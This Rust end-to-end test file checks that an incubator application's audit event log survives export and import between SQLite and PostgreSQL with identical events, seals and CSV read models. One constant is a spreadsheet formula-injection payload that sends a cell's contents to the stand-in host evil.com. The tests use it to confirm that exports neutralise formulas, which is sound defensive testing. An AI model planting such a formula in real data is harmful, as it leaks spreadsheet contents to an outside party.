//! Export then import into an empty store of the other kind: the same log, the same seal, the
//! same read models.

use std::path::Path;

use incubator_projections::models::Model;
use incubator_projections::{audit, rebuild, ReadDb};
use incubator_tests::{both_stores, Backend, TestApp, TestDb};
use reqwest::StatusCode;
use serde_json::{json, Value};

both_stores!(
    an_exported_log_imports_into_the_other_store_unchanged,
    every_event_type_round_trips_between_the_stores,
);

const BINARY: &str = env!("CARGO_BIN_EXE_incubator-e2e");

fn cli(args: &[&str]) -> std::process::Output {
    std::process::Command::new(BINARY)
        .args(args)
        .output()
        .unwrap()
}

/// A startup name that opens a link when a spreadsheet evaluates it.
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")";

fn export(url: &str, dir: &Path) {
    let out = cli(&[
        "audit",
        "export",
        "--out",
        dir.to_str().unwrap(),
        "--database-url",
        url,
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The export's events, as JSON.
fn lines(dir: &Path) -> Vec<Value> {
    std::fs::read_to_string(dir.join("events.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

async fn an_exported_log_imports_into_the_other_store_unchanged(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = app.apply("Tempo", Some("2026-spring")).await;
    app.command(&s, "advance", json!({"on": "2026-02-01"}), StatusCode::OK)
        .await;
    app.command(
        &s,
        "funding",
        json!({"programme": "Fit 4 Start", "kind": "grant",
               "amount": {"cents": 5_000_000, "currency": "EUR"}, "awarded_on": "2026-03-01"}),
        StatusCode::CREATED,
    )
    .await;
    let m = app.register_mentor().await;
    app.command(&s, "mentors", json!({"mentor_id": m}), StatusCode::OK)
        .await;
    let r = app
        .post(
            "/api/v1/spaces",
            json!({"building": "zilleschapp", "kind": "studio", "name": "B-1.04",
                   "area_m2": 69, "rent_per_m2": {"cents": 600, "currency": "EUR"},
                   "registered_on": "2026-01-05"}),
        )
        .await;
    let space = r.json::<Value>().await.unwrap()["space_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let r = app
        .post(
            &format!("/api/v1/spaces/{space}/allocations"),
            json!({"occupant": {"kind": "startup", "id": s}, "from": "2026-02-01"}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::CREATED);
    let r = app
        .post(
            "/api/v1/collaborations",
            json!({"title": "Slag Light", "challenge": "c", "disciplines": ["light art", "robotics"]}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::CREATED);
    // A name a spreadsheet would run as a formula.
    app.apply(FORMULA, None).await;
    app.settle().await;
    let dir = std::env::temp_dir().join(format!("incubator-export-{}", uuid::Uuid::now_v7()));
    let (first, second) = (dir.join("first"), dir.join("second"));
    export(&app.db.url, &first);
    let source = lines(&first);
    assert_eq!(source.len(), 9);
    assert!(source.iter().all(|e| e["hash"].is_string()), "all sealed");

    // Into an empty store of the other kind.
    let other = match backend {
        Backend::Sqlite => Backend::Postgres,
        Backend::Postgres => Backend::Sqlite,
    };
    let target = TestDb::new(other).await;
    let file = first.join("events.jsonl");
    let out = cli(&[
        "audit",
        "import",
        file.to_str().unwrap(),
        "--database-url",
        &target.url,
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let copy = TestApp::spawn_on(target).await;
    copy.settle().await;
    export(&copy.db.url, &second);
    // The same events, positions and hashes: the seal (and any digest published) carries over.
    assert_eq!(lines(&second), source);
    // The same read models, table by table.
    let mut tables = 0;
    for entry in std::fs::read_dir(&first).unwrap() {
        let name = entry.unwrap().file_name();
        if name.to_string_lossy().ends_with(".csv") {
            let a = std::fs::read_to_string(first.join(&name)).unwrap();
            let b = std::fs::read_to_string(second.join(&name)).unwrap();
            assert_eq!(a, b, "{name:?}");
            tables += 1;
        }
    }
    assert!(tables >= 10, "{tables} tables");
    assert!(
        std::fs::read_to_string(first.join("rm_funding_startups.csv"))
            .unwrap()
            .contains("Tempo")
    );
    // The formula is text in the export: a leading apostrophe, every cell of it.
    for name in ["rm_funding_startups.csv", "rm_space_names.csv"] {
        let csv = std::fs::read_to_string(first.join(name)).unwrap();
        if csv.contains("HYPERLINK") {
            assert!(csv.contains("\"'=HYPERLINK("), "{name}: {csv}");
            assert!(
                !csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"),
                "{name}"
            );
        }
    }
    assert!(
        std::fs::read_to_string(first.join("rm_funding_startups.csv"))
            .unwrap()
            .contains("HYPERLINK")
    );
    // Check and verify are clean on the copy.
    let read = ReadDb::connect(&copy.db.url, 2).await.unwrap();
    for model in Model::ALL {
        let checked = rebuild::check(&read, &model, &|_| {}).await.unwrap();
        assert_eq!(checked.differences(), 0, "{checked:?}");
    }
    let verified = audit::verify(&read, audit::Range::ALL, &|_| {})
        .await
        .unwrap();
    assert!(verified.intact && verified.sealed == 9, "{verified:?}");
    read.pool.close().await;
    // The copy takes new commands after the imported events.
    let next = copy.apply("After", None).await;
    let history = copy
        .get_json(&format!("/api/v1/startups/{next}/events"))
        .await;
    assert!(history["items"][0]["position"].as_i64().unwrap() > 9);
    // A store that holds events refuses an import.
    let out = cli(&[
        "audit",
        "import",
        file.to_str().unwrap(),
        "--database-url",
        &copy.db.url,
    ]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("empty store"));
    let _ = std::fs::remove_dir_all(&dir);
}

/// Every event type the domain has, by aggregate. A new event type missing here fails the
/// round trip below, which must then show it survives export and import.
const EVERY_EVENT_TYPE: [&str; 52] = [
    // Startup
    "Applied",
    "StageAdvanced",
    "Rejected",
    "Withdrawn",
    "Exited",
    "Voided",
    "CohortAssigned",
    "EquityRoundRecorded",
    "FundingAwarded",
    "TranchePaid",
    "MentorAssigned",
    "MentorReleased",
    "SessionLogged",
    "MilestoneSet",
    "MilestoneAchieved",
    "KpisRecorded",
    // Mentor
    "MentorRegistered",
    "ExpertiseChanged",
    "MentorRetired",
    "MentorReactivated",
    // Space
    "SpaceRegistered",
    "TermsChanged",
    "SpaceDecommissioned",
    "SpaceAllocated",
    "AllocationEnded",
    "AllocationCancelled",
    "RoomBooked",
    "BookingCancelled",
    // Residency
    "ResidencyApplied",
    "ResidencyAccepted",
    "ResidencyDeclined",
    "ResidencyWaitListed",
    "AgreementSigned",
    "ArtistArrived",
    "ResidencyExtended",
    "ResidentMentorAssigned",
    "ResidentSessionLogged",
    "ResidentMentorReleased",
    "PublicMomentRecorded",
    "ResidencyCompleted",
    "ResidencyCancelled",
    // Collaboration
    "CollaborationProposed",
    "ParticipantJoined",
    "ParticipantLeft",
    "CoProductionAgreed",
    "CollaborationActivated",
    "PhaseAdded",
    "CollaborationMilestoneSet",
    "CollaborationMilestoneAchieved",
    "OutputRecorded",
    "CollaborationConcluded",
    "CollaborationAbandoned",
];

/// `POST path` expecting success; the answer.
async fn ok(app: &TestApp, path: &str, body: Value) -> Value {
    let r = app.post(path, body).await;
    let status = r.status();
    let answer: Value = r.json().await.unwrap_or(Value::Null);
    assert!(status.is_success(), "POST {path}: {answer}");
    answer
}

/// The events the demo year does not have, through the API: a cohort changed, a mentor
/// released and a startup exited; expertise changed and a mentor reactivated; terms changed,
/// an allocation withdrawn and a space decommissioned; a stay extended, a resident's mentor
/// released and a residency cancelled; a participant leaving.
async fn the_rest_of_the_domain(app: &TestApp) {
    let s = app.apply("Odd Cases", Some("2026-spring")).await;
    let startup = |a: &str| format!("/api/v1/startups/{s}/{a}");
    ok(app, &startup("cohort"), json!({"cohort": "2026-autumn"})).await;
    ok(app, &startup("advance"), json!({"on": "2026-02-01"})).await;
    let m = app.register_mentor().await;
    ok(app, &startup("mentors"), json!({"mentor_id": m})).await;
    ok(app, &startup(&format!("mentors/{m}/release")), json!({})).await;
    ok(
        app,
        &startup("exit"),
        json!({"reason": "moved abroad", "on": "2026-03-01"}),
    )
    .await;
    let duplicate = app.apply("Odd Cases (again)", None).await;
    ok(
        app,
        &format!("/api/v1/startups/{duplicate}/void"),
        json!({"reason": "entered twice"}),
    )
    .await;
    let mentor = |a: &str| format!("/api/v1/mentors/{m}/{a}");
    ok(app, &mentor("expertise"), json!({"expertise": ["law"]})).await;
    ok(
        app,
        &mentor("retire"),
        json!({"reason": "sabbatical", "retired_on": "2026-04-01"}),
    )
    .await;
    ok(app, &mentor("reactivate"), json!({"reason": "back"})).await;
    let space = |name: &str| {
        json!({"building": "zilleschapp", "kind": "studio", "name": name, "area_m2": 69,
               "rent_per_m2": {"cents": 600, "currency": "EUR"}, "registered_on": "2026-01-01"})
    };
    let studio = ok(app, "/api/v1/spaces", space("B-9.01")).await["space_id"]
        .as_str()
        .unwrap()
        .to_owned();
    ok(
        app,
        &format!("/api/v1/spaces/{studio}/terms"),
        json!({"area_m2": 70}),
    )
    .await;
    let a = ok(
        app,
        &format!("/api/v1/spaces/{studio}/allocations"),
        json!({"occupant": {"kind": "startup", "id": s}, "from": "2026-02-01"}),
    )
    .await["allocation_id"]
        .as_str()
        .unwrap()
        .to_owned();
    ok(
        app,
        &format!("/api/v1/spaces/{studio}/allocations/{a}/cancel"),
        json!({"reason": "entered in error"}),
    )
    .await;
    let gone = ok(app, "/api/v1/spaces", space("B-9.02")).await["space_id"]
        .as_str()
        .unwrap()
        .to_owned();
    ok(
        app,
        &format!("/api/v1/spaces/{gone}/decommission"),
        json!({"reason": "merged", "on": "2026-06-01"}),
    )
    .await;
    let artist = app.person().await;
    let r = ok(
        app,
        "/api/v1/residencies",
        json!({"call": "Open call 2026", "artist": artist, "discipline": "sound art",
               "proposal": "p", "requested_from": "2026-04-01", "requested_to": "2026-06-30",
               "applied_on": "2026-01-15"}),
    )
    .await["residency_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let residency = |a: &str| format!("/api/v1/residencies/{r}/{a}");
    ok(app, &residency("accept"), json!({})).await;
    ok(app, &residency("mentors"), json!({"mentor_id": m})).await;
    ok(app, &residency(&format!("mentors/{m}/release")), json!({})).await;
    ok(
        app,
        &residency("agreement"),
        json!({"starts_on": "2026-04-01", "ends_on": "2026-06-30",
               "stipend": {"cents": 150000, "currency": "EUR"}, "studio_id": studio}),
    )
    .await;
    ok(
        app,
        &residency("arrive"),
        json!({"arrived_on": "2026-04-01"}),
    )
    .await;
    ok(
        app,
        &residency("extend"),
        json!({"ends_on": "2026-07-31", "reason": "show moved"}),
    )
    .await;
    ok(app, &residency("cancel"), json!({"reason": "left early"})).await;
    let c = ok(
        app,
        "/api/v1/collaborations",
        json!({"title": "Odd Light", "challenge": "c", "disciplines": ["light art"]}),
    )
    .await["collaboration_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let p = ok(
        app,
        &format!("/api/v1/collaborations/{c}/participants"),
        json!({"kind": "startup", "party_id": s, "discipline": "light art", "role": "maker"}),
    )
    .await["participant_id"]
        .as_str()
        .unwrap()
        .to_owned();
    ok(
        app,
        &format!("/api/v1/collaborations/{c}/participants/{p}/leave"),
        json!({"reason": "pivoted"}),
    )
    .await;
}

/// The demo year and the rest of the domain's events, exported, imported into the other kind of
/// store and exported again: the same lines, every event type included.
async fn every_event_type_round_trips_between_the_stores(backend: Backend) {
    let db = TestDb::with_demo(backend, BINARY).await;
    let app = TestApp::spawn_on(db).await;
    the_rest_of_the_domain(&app).await;
    app.settle().await;
    let dir = std::env::temp_dir().join(format!("incubator-export-{}", uuid::Uuid::now_v7()));
    let (first, second) = (dir.join("first"), dir.join("second"));
    export(&app.db.url, &first);
    let source = lines(&first);
    let types: std::collections::BTreeSet<&str> = source
        .iter()
        .map(|e| e["event_type"].as_str().unwrap())
        .collect();
    let missing: Vec<&&str> = EVERY_EVENT_TYPE
        .iter()
        .filter(|t| !types.contains(**t))
        .collect();
    assert!(missing.is_empty(), "not in the export: {missing:?}");
    assert_eq!(types.len(), EVERY_EVENT_TYPE.len(), "{types:?}");
    assert!(
        source.iter().any(|e| e["payload"].is_string()),
        "an event without fields is in the export"
    );
    let other = match backend {
        Backend::Sqlite => Backend::Postgres,
        Backend::Postgres => Backend::Sqlite,
    };
    let target = TestDb::new(other).await;
    let file = first.join("events.jsonl");
    let out = cli(&[
        "audit",
        "import",
        file.to_str().unwrap(),
        "--database-url",
        &target.url,
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The import seals every event it writes, in its own transaction: verify checks each one
    // against its seal before any server has run (no digest covers them yet).
    let out = cli(&["audit", "verify", "--json", "--database-url", &target.url]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["sealed"], report["events"], "{report}");
    assert_eq!(report["unsealed"], 0, "{report}");
    assert_eq!(report["undigested"], report["events"], "{report}");
    assert_eq!(report["digests"], 0, "{report}");
    let copy = TestApp::spawn_on(target).await;
    copy.settle().await;
    export(&copy.db.url, &second);
    // PostgreSQL exports in commit order, which concurrent writers (the demo's booking lanes)
    // make differ from position order; a SQLite copy commits, and so exports, by position.
    let by_position = |mut v: Vec<Value>| {
        v.sort_by_key(|e| e["position"].as_i64());
        v
    };
    let (source, copied) = (by_position(source), by_position(lines(&second)));
    assert_eq!(copied.len(), source.len());
    for (a, b) in source.iter().zip(&copied) {
        assert_eq!(a, b, "the event at position {} changed", a["position"]);
    }
    let _ = std::fs::remove_dir_all(&dir);
}
